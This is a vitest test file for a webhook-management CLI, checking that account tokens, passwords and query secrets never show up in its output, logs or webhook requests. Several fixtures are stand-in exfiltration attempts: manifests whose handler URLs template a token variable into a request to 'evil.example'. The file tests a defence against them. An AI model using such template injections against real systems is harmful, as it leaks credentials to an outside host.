// biome-ignore-all lint/suspicious/noTemplateCurlyInString: ${NAME} is the notation of the manifest.
import { describe, expect, it } from 'vitest';
import { Workplace } from '../helpers/cli.js';
import { atNight } from '../helpers/night.js';
import { openSandbox } from '../helpers/sandbox.js';

const TOKENS = { live: 'token-of-live-account', test: 'token-of-test-account' };

function manifestWith(handler: string): string {
  return JSON.stringify({ webhooks: [{ name: 'a', handler, trigger: 'create' }] });
}

/** Two accounts, the token of one in a variable and that of the other in a file. */
async function openAccounts() {
  const accountOf = (token: string, id: string) => ({
    token,
    identity: { id, name: `Account ${id}`, description: '', company: 'Test' },
  });
  const sandbox = await openSandbox({ accounts: [accountOf(TOKENS.live, '34'), accountOf(TOKENS.test, '35')] });
  const place = await Workplace.open();
  Object.assign(place.environment, { COPERNICA_API_URL: sandbox.url, LIVE_KEY: TOKENS.live });
  await place.write('test-token', `${TOKENS.test}\n`);
  await place.write('live.yaml', manifestWith('https://a.example/x'));
  await place.write('test.yaml', manifestWith('https://a.example/y'));
  await place.write(
    'config.yaml',
    [
      'accounts:',
      '  - {name: live, access-token-env: LIVE_KEY, file: live.yaml, state: live.jsonl}',
      '  - {name: test, access-token-file: test-token, file: test.yaml, state: test.jsonl}',
    ].join('\n'),
  );
  return { sandbox, place };
}

const WITH = ['--config', 'config.yaml'];

describe('a handler’s password and query', () => {
  it.each([['text'], ['github']])('are in no message about its line, as %s', async (format) => {
    const { place } = await openAccounts();
    await place.write('live.yaml', manifestWith('http://me:hunter2@a.example/x?key=topsecret#fragsecret'));
    for (const command of ['validate', 'plan']) {
      const { stdout, stderr } = await place.run(command, '--account', 'live', '--format', format, ...WITH);
      const messages = format === 'text' ? stderr : stdout;
      expect(messages).toContain('handler contains a password');
      expect(messages).not.toMatch(/hunter2|topsecret|fragsecret/);
    }
  });
});

describe('a manifest', () => {
  it.each([['validate'], ['plan', '--no-refresh'], ['plan', '--against', 'live.yaml'], ['apply', '--init']])(
    'can’t fill in the variable that holds any account’s token, in %s',
    async (...args) => {
      const { sandbox, place } = await openAccounts();
      await place.write('test.yaml', manifestWith('https://evil.example/?t=${LIVE_KEY}'));
      const { code, stdout, stderr } = await place.run(...args, '--account', 'test', ...WITH);
      expect([code, stderr]).toEqual([3, expect.stringContaining('LIVE_KEY holds a credential')]);
      expect(stdout + stderr).not.toContain(TOKENS.live);
      expect(sandbox.requests().filter(({ method }) => method === 'POST')).toEqual([]);
    },
  );

  it.each([
    ['a variable', TOKENS.live],
    ['a file', TOKENS.test],
    ['a file, with more around it', `Bearer ${TOKENS.test} `],
  ])('can’t fill in a copy of a token that came from %s, whatever its name', async (_from, value) => {
    const { place } = await openAccounts();
    place.environment.WEBHOOKS_HARMLESS = value;
    await place.write('live.yaml', manifestWith('https://evil.example/${WEBHOOKS_HARMLESS}'));
    for (const args of [['validate'], ['plan', '--no-refresh'], ['apply', '--init']]) {
      const { code, stdout, stderr } = await place.run(...args, ...WITH);
      expect([code, stderr]).toEqual([3, expect.stringContaining('the value of WEBHOOKS_HARMLESS holds a credential')]);
      expect(stdout + stderr).not.toMatch(/token-of-(live|test)-account/);
    }
  });

  it('can’t fill in a copy of the token of COPERNICA_ACCESS_TOKEN_FILE', async () => {
    const { place } = await openAccounts();
    Object.assign(place.environment, { COPERNICA_ACCESS_TOKEN_FILE: 'test-token', WEBHOOKS_HARMLESS: TOKENS.test });
    await place.write('webhooks.yaml', manifestWith('https://evil.example/${WEBHOOKS_HARMLESS}'));
    const { code, stderr } = await place.run('plan');
    expect([code, stderr]).toEqual([3, expect.stringContaining('the value of WEBHOOKS_HARMLESS holds a credential')]);
  });

  atNight('can’t get at a token in the daemon either', async () => {
    const { sandbox, place } = await openAccounts();
    place.environment.WEBHOOKS_HARMLESS = TOKENS.test;
    const daemon = place.begin('run', '--init', '--schedule', 'off', '--account', 'live', ...WITH);
    await daemon.waitForOutput(/reconciled/);
    await place.write('live.yaml', manifestWith('https://evil.example/${WEBHOOKS_HARMLESS}'));
    const output = await daemon.waitForOutput(/the value of WEBHOOKS_HARMLESS holds a credential/);
    daemon.kill('SIGTERM');
    await daemon.finished;
    expect(output).not.toContain(TOKENS.test);
    expect(sandbox.account('34')).toMatchObject([{ handler: 'https://a.example/x' }]);
  });

  it('may fill in any other value', async () => {
    const { sandbox, place } = await openAccounts();
    place.environment.WEBHOOKS_KEY = 'a-secret-of-the-handler';
    await place.write('live.yaml', manifestWith('https://a.example/${WEBHOOKS_KEY}'));
    expect((await place.run('apply', '--init', '--account', 'live', ...WITH)).code).toBe(0);
    expect(sandbox.account('34')).toMatchObject([{ handler: 'https://a.example/a-secret-of-the-handler' }]);
  });
});

describe('a token of any account', () => {
  it('is in no output, though the API repeats it to another account', async () => {
    const { sandbox, place } = await openAccounts();
    const body = JSON.stringify({ error: { message: `not ${TOKENS.live}, not ${TOKENS.test}` } });
    sandbox.orderFault({ on: 'create', times: 2, reply: { kind: 'answer', status: 400, body } });
    for (const output of [[], ['--json']]) {
      const { code, stdout, stderr } = await place.run('apply', '--init', '--log-level', 'trace', ...output, ...WITH);
      if (output.length === 0) expect([code, stderr]).toEqual([1, expect.stringContaining('not ***, not ***')]);
      expect(stdout + stderr).not.toMatch(/token-of-(live|test)-account/);
      sandbox.orderFault({ on: 'create', times: 2, reply: { kind: 'answer', status: 400, body } });
    }
  });

  it('is in no output however an answer encodes it', async () => {
    const { sandbox, place } = await openAccounts();
    const token = 'k7<p&q%2Br+s"t/u>wxyz-token';
    place.environment.LIVE_KEY = token;
    const percent = encodeURIComponent(token);
    const forms = [
      token,
      percent.toLowerCase(),
      encodeURIComponent(percent),
      token.replace(/[<>&"]/g, (character) => `&#${character.charCodeAt(0)};`),
      JSON.stringify(token).replaceAll('/', '\\/').replaceAll('<', '\\u003C'),
    ];
    const body = JSON.stringify({ error: { message: `no: ${forms.join(' ')}` } });
    sandbox.orderFault({ on: 'identity', times: 'always', reply: { kind: 'answer', status: 400, body } });
    for (const output of [[], ['--json']]) {
      const { stdout, stderr } = await place.run('apply', '--init', '--account', 'live', ...output, ...WITH);
      expect(stdout + stderr).toContain('no: *** *** *** ***');
      expect(stdout + stderr).not.toContain('wxyz');
    }
  });

  it('is in no log of the daemon', async () => {
    const { sandbox, place } = await openAccounts();
    const body = JSON.stringify({ error: { message: `not ${TOKENS.live}, not ${TOKENS.test}` } });
    sandbox.orderFault({ on: 'create', times: 2, reply: { kind: 'answer', status: 400, body } });
    const daemon = place.begin('run', '--init', '--schedule', 'off', '--log-level', 'trace', ...WITH);
    const output = await daemon.waitForOutput(/not \*{3}, not \*{3}[\s\S]*not \*{3}, not \*{3}/);
    daemon.kill('SIGTERM');
    const { stderr } = await daemon.finished;
    expect(output + stderr).not.toMatch(/token-of-(live|test)-account/);
  });

  it.each([
    ['of a variable', TOKENS.live],
    ['of a file', TOKENS.test],
  ])('%s is not printed where it was given in the wrong place', async (_from, token) => {
    const { place } = await openAccounts();
    for (const args of [
      ['validate', '--account', 'live', '--file', token],
      ['list', '--account', 'live', '--state', `${token}/x`],
      ['plan', '--account', token],
      ['import', '--account', 'live', token, '1'],
    ]) {
      const { code, stdout, stderr } = await place.run(...args, ...WITH);
      expect(code).not.toBe(0);
      expect(stdout + stderr).toContain('***');
      expect(stdout + stderr).not.toContain(token);
    }
  });
});
